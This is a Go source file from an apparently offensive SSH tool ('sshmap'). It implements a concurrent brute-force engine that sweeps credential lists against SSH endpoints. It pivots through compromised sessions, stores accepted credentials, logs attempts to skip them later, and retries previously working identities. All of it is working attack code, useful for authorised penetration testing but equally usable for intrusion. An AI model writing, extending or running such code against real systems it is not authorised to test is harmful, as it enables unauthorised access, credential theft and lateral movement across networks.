// Package bruteforce sweeps a credential list against one SSH endpoint.
// Attempts run under a concurrency cap with linear retry backoff for
// transient faults; every concluded attempt lands in the ledger so a
// later sweep from the same vantage skips it. Identities that worked in
// an earlier run but were not re-proven by the sweep get one direct
// reconnection attempt at a relaxed timeout.
package bruteforce

import (
	"context"
	"errors"
	"math/rand"
	"sync"
	"time"

	"github.com/cenkalti/backoff/v4"
	"go.opentelemetry.io/otel"
	"go.uber.org/zap"
	"golang.org/x/crypto/ssh"

	"github.com/gustycube/sshmap/internal/credstore"
	"github.com/gustycube/sshmap/internal/graph"
	"github.com/gustycube/sshmap/internal/ledger"
	"github.com/gustycube/sshmap/internal/metrics"
	"github.com/gustycube/sshmap/internal/rate"
	"github.com/gustycube/sshmap/internal/sessions"
	"github.com/gustycube/sshmap/internal/sshconn"
	"github.com/gustycube/sshmap/internal/types"
)

// retryStep spaces retries linearly: step, 2*step, 3*step.
const retryStep = 500 * time.Millisecond

// recordTimeout bounds ledger writes so a stalled store cannot wedge a
// worker; attempts are recorded even when the scan is shutting down.
const recordTimeout = 10 * time.Second

type Config struct {
	// LocalHost names the launch host; attempts made without a parent
	// session are recorded from this vantage.
	LocalHost      string
	MaxConcurrent  int
	ScanTimeout    time.Duration
	MaxRetries     int
	RecordAttempts bool
	// ForceRescan retries credentials the ledger says were already
	// attempted and skips the known-good reconnection pass.
	ForceRescan bool
	// ProxyURL routes direct dials through a proxy; tunneled dials
	// ignore it.
	ProxyURL string
	// DialsPerSecond caps dial attempts per target address. Zero
	// disables the limiter.
	DialsPerSecond float64
	DialBurst      int
}

type Engine struct {
	cfg      Config
	creds    *credstore.Store
	attempts *ledger.Store
	graph    graph.Store
	sessions *sessions.Manager
	limiter  *rate.PerHost
	log      *zap.SugaredLogger
}

// New builds an engine. The attempt ledger and graph store are
// optional; without them the engine neither skips nor reconnects.
func New(cfg Config, creds *credstore.Store, attempts *ledger.Store, g graph.Store, mgr *sessions.Manager, log *zap.SugaredLogger) *Engine {
	if cfg.MaxConcurrent <= 0 {
		cfg.MaxConcurrent = 8
	}
	if cfg.ScanTimeout <= 0 {
		cfg.ScanTimeout = 5 * time.Second
	}
	if cfg.MaxRetries <= 0 {
		cfg.MaxRetries = 3
	}
	e := &Engine{
		cfg:      cfg,
		creds:    creds,
		attempts: attempts,
		graph:    g,
		sessions: mgr,
		log:      log,
	}
	if cfg.DialsPerSecond > 0 {
		burst := cfg.DialBurst
		if burst <= 0 {
			burst = 1
		}
		e.limiter = rate.New(cfg.DialsPerSecond, burst)
	}
	return e
}

// Attack tries every applicable credential against host:port and
// returns the authenticated connections, registered with the session
// cache. A nil parent dials from the launch host; otherwise attempts
// tunnel through the parent session.
func (e *Engine) Attack(ctx context.Context, host string, port int, parent *sshconn.Connection) []*sshconn.Connection {
	tr := otel.Tracer("sshmap/bruteforce")
	ctx, span := tr.Start(ctx, "Attack")
	defer span.End()

	source := e.cfg.LocalHost
	if parent != nil {
		source = parent.RemoteHostname()
	}

	candidates := e.creds.Candidates(host, port)
	candidates = e.filterAttempted(ctx, candidates, source, host, port)

	// Identities proven in earlier runs, freshest edge per host.
	known := e.knownEdges(ctx, source, host, port)

	if len(candidates) == 0 && len(known) == 0 {
		e.log.Debugw("nothing to try", "target", host, "port", port)
		return nil
	}

	rand.Shuffle(len(candidates), func(i, j int) {
		candidates[i], candidates[j] = candidates[j], candidates[i]
	})

	var (
		mu    sync.Mutex
		conns []*sshconn.Connection
		fresh = make(map[string]bool)
	)
	sem := make(chan struct{}, e.cfg.MaxConcurrent)
	var wg sync.WaitGroup
	for _, cred := range candidates {
		wg.Add(1)
		go func(cred types.Credential) {
			defer wg.Done()
			select {
			case sem <- struct{}{}:
				defer func() { <-sem }()
			case <-ctx.Done():
				return
			}
			conn := e.tryCredential(ctx, host, port, cred, parent, source)
			if conn == nil {
				return
			}
			mu.Lock()
			conns = append(conns, conn)
			fresh[conn.RemoteHostname()] = true
			mu.Unlock()
		}(cred)
	}
	wg.Wait()

	// Reconnect known-good identities the sweep did not re-prove. One
	// direct attempt each at a relaxed timeout, off the ledger's books.
	if len(known) > 0 && !e.cfg.ForceRescan {
		for toHost, edge := range known {
			if fresh[toHost] || ctx.Err() != nil {
				continue
			}
			cred := types.Credential{Scope: host, Port: port, User: edge.User, Secret: edge.Secret, Method: edge.Method}
			conn, res := e.connectOnce(ctx, host, port, cred, parent, 2*e.cfg.ScanTimeout)
			if res.Outcome != sshconn.OutcomeSuccess {
				e.log.Debugw("known credential no longer works",
					"target", host, "port", port, "to", toHost, "user", edge.User, "reason", res.Reason)
				continue
			}
			conns = append(conns, e.sessions.AddSession(ctx, conn))
		}
	}

	return conns
}

// filterAttempted drops credentials the ledger already saw from this
// vantage against this endpoint.
func (e *Engine) filterAttempted(ctx context.Context, candidates []types.Credential, source, host string, port int) []types.Credential {
	if e.cfg.ForceRescan || !e.cfg.RecordAttempts || e.attempts == nil || source == "" {
		return candidates
	}
	attempted, err := e.attempts.AttemptedSet(ctx, source, host, port)
	if err != nil {
		e.log.Warnw("attempt history unavailable, trying everything", "err", err)
		return candidates
	}
	if len(attempted) == 0 {
		return candidates
	}
	kept := make([]types.Credential, 0, len(candidates))
	for _, cred := range candidates {
		if _, ok := attempted[ledger.AttemptKey(cred.User, cred.Method, cred.Secret)]; ok {
			continue
		}
		kept = append(kept, cred)
	}
	if skipped := len(candidates) - len(kept); skipped > 0 {
		e.log.Debugw("skipping attempted credentials",
			"target", host, "port", port, "skipped", skipped)
	}
	return kept
}

// knownEdges returns the freshest previously successful edge per remote
// host for this endpoint, from this vantage.
func (e *Engine) knownEdges(ctx context.Context, source, host string, port int) map[string]types.AccessEdge {
	if e.graph == nil || source == "" {
		return nil
	}
	edges, err := e.graph.EdgesFrom(ctx, source)
	if err != nil {
		e.log.Warnw("edge history unavailable", "source", source, "err", err)
		return nil
	}
	known := make(map[string]types.AccessEdge)
	for _, edge := range edges {
		if edge.IP != host || edge.Port != port {
			continue
		}
		// EdgesFrom is freshest-first; keep the first per host.
		if _, ok := known[edge.ToHost]; !ok {
			known[edge.ToHost] = edge
		}
	}
	return known
}

// tryCredential drives one credential to a concluded outcome: retries
// ride out transient faults, auth rejection concludes immediately, and
// whatever concludes is written to the ledger.
func (e *Engine) tryCredential(ctx context.Context, host string, port int, cred types.Credential, parent *sshconn.Connection, source string) *sshconn.Connection {
	var conn *sshconn.Connection
	op := func() error {
		c, res := e.connectOnce(ctx, host, port, cred, parent, e.cfg.ScanTimeout)
		switch res.Outcome {
		case sshconn.OutcomeSuccess:
			conn = c
			return nil
		case sshconn.OutcomeTransientFailure:
			metrics.AttemptsTotal.WithLabelValues("retry").Inc()
			e.log.Debugw("transient failure, will retry",
				"target", host, "port", port, "user", cred.User, "reason", res.Reason)
			if res.Err != nil {
				return res.Err
			}
			return errors.New(res.Reason)
		default:
			if res.Err != nil {
				return backoff.Permanent(res.Err)
			}
			return backoff.Permanent(errors.New(res.Reason))
		}
	}

	bo := backoff.WithContext(
		backoff.WithMaxRetries(&linearBackOff{step: retryStep}, uint64(e.cfg.MaxRetries-1)), ctx)
	err := backoff.Retry(op, bo)

	if conn != nil {
		metrics.AttemptsTotal.WithLabelValues("success").Inc()
		metrics.ConnectionsTotal.Inc()
		scoped := types.Credential{Scope: host, Port: port, User: cred.User, Secret: cred.Secret, Method: cred.Method}
		if err := e.creds.Store(scoped); err != nil {
			e.log.Warnw("persist credential", "err", err)
		}
		registered := e.sessions.AddSession(ctx, conn)
		e.record(source, host, port, cred, registered.RemoteHostname(), true)
		e.log.Infow("credential accepted",
			"target", host, "port", port, "user", cred.User, "method", cred.Method,
			"host", registered.RemoteHostname())
		return registered
	}

	if ctx.Err() != nil {
		// Canceled mid-flight; nothing concluded.
		return nil
	}
	metrics.AttemptsTotal.WithLabelValues("failure").Inc()
	e.record(source, host, port, cred, host, false)
	e.log.Debugw("credential rejected",
		"target", host, "port", port, "user", cred.User, "method", cred.Method, "err", err)
	return nil
}

func (e *Engine) connectOnce(ctx context.Context, host string, port int, cred types.Credential, parent *sshconn.Connection, timeout time.Duration) (*sshconn.Connection, sshconn.DialResult) {
	if e.limiter != nil {
		if err := e.limiter.Wait(ctx, host); err != nil {
			return nil, sshconn.DialResult{Outcome: sshconn.OutcomeTransientFailure, Reason: "canceled", Err: err}
		}
	}

	var signer ssh.Signer
	if cred.Method == types.MethodKeyfile {
		s, err := e.creds.SignerFor(cred.Secret)
		if err != nil {
			return nil, sshconn.DialResult{Outcome: sshconn.OutcomePermanentFailure, Reason: "unreadable key", Err: err}
		}
		signer = s
	}

	opts := sshconn.Options{
		Host:       host,
		Port:       port,
		Credential: cred,
		Signer:     signer,
		Parent:     parent,
		Timeout:    timeout,
		Log:        e.log,
	}
	if parent == nil {
		opts.ProxyURL = e.cfg.ProxyURL
	}
	conn := sshconn.New(opts)
	res := conn.Connect(ctx)
	if res.Outcome != sshconn.OutcomeSuccess {
		return nil, res
	}
	return conn, res
}

func (e *Engine) record(source, targetIP string, port int, cred types.Credential, toHost string, success bool) {
	if !e.cfg.RecordAttempts || e.attempts == nil || source == "" {
		return
	}
	ctx, cancel := context.WithTimeout(context.Background(), recordTimeout)
	defer cancel()
	e.attempts.Record(ctx, types.AttemptRecord{
		SourceHost: source,
		TargetHost: toHost,
		TargetIP:   targetIP,
		TargetPort: port,
		User:       cred.User,
		Method:     cred.Method,
		Secret:     cred.Secret,
		Success:    success,
		Timestamp:  time.Now().UTC(),
	})
}

type linearBackOff struct {
	step time.Duration
	n    int
}

func (b *linearBackOff) NextBackOff() time.Duration {
	b.n++
	return time.Duration(b.n) * b.step
}

func (b *linearBackOff) Reset() { b.n = 0 }
